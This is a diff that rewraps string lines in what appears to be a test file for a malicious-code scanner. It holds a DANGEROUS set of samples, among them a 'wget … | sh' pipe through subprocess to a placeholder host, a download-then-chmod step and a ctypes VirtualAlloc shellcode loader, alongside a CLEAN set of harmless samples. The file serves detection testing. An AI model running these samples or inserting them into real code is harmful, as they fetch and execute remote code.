@@ -44,7 +44,8 @@ DANGEROUS = {
         "remote-code",
     ),
     "subprocess shell": (
-        "import subprocess\nsubprocess.run('wget -qO- https://x.example.invalid | sh', shell=True)\n",
+        "import subprocess\n"
+        "subprocess.run('wget -qO- https://x.example.invalid | sh', shell=True)\n",
         "remote-code",
     ),
     "subprocess argv": (
@@ -77,7 +78,8 @@ DANGEROUS = {
         "python-unpickle-download",
     ),
     "download chmod": (
-        "import os, urllib.request\nurllib.request.urlretrieve('https://x.example.invalid/b', 'b')\n"
+        "import os, urllib.request\n"
+        "urllib.request.urlretrieve('https://x.example.invalid/b', 'b')\n"
         "os.chmod('b', 0o755)\n",
         "download-and-run",
     ),
@@ -86,7 +88,8 @@ DANGEROUS = {
         "python-string-building",
     ),
     "ctypes shellcode": (
-        "import ctypes, base64\nsc = base64.b64decode('kJCQ')\nctypes.windll.kernel32.VirtualAlloc(0, len(sc), 0x3000, 0x40)\n",
+        "import ctypes, base64\nsc = base64.b64decode('kJCQ')\n"
+        "ctypes.windll.kernel32.VirtualAlloc(0, len(sc), 0x3000, 0x40)\n",
         "python-ctypes",
     ),
 }
@@ -95,7 +98,8 @@ CLEAN = [
     "import subprocess\nsubprocess.run(['git', 'status'], check=True)\n",
     "import subprocess, sys\nfor tool in ('pdftotext', 'pdfinfo'):\n"
     "    subprocess.run([tool, sys.argv[1]], check=True)\n",
-    "import requests\nr = requests.get('https://api.github.com/repos/a/b', timeout=10)\nprint(r.json())\n",
+    "import requests\nr = requests.get('https://api.github.com/repos/a/b', timeout=10)\n"
+    "print(r.json())\n",
     "import os, requests\nh = {'Authorization': 'Bearer ' + os.environ['API_TOKEN']}\n"
     "requests.post('https://api.example.com/v1/items', headers=h, json={'a': 1})\n",
     "import csv, sys\nwith open(sys.argv[1]) as f:\n    rows = list(csv.DictReader(f))\n"
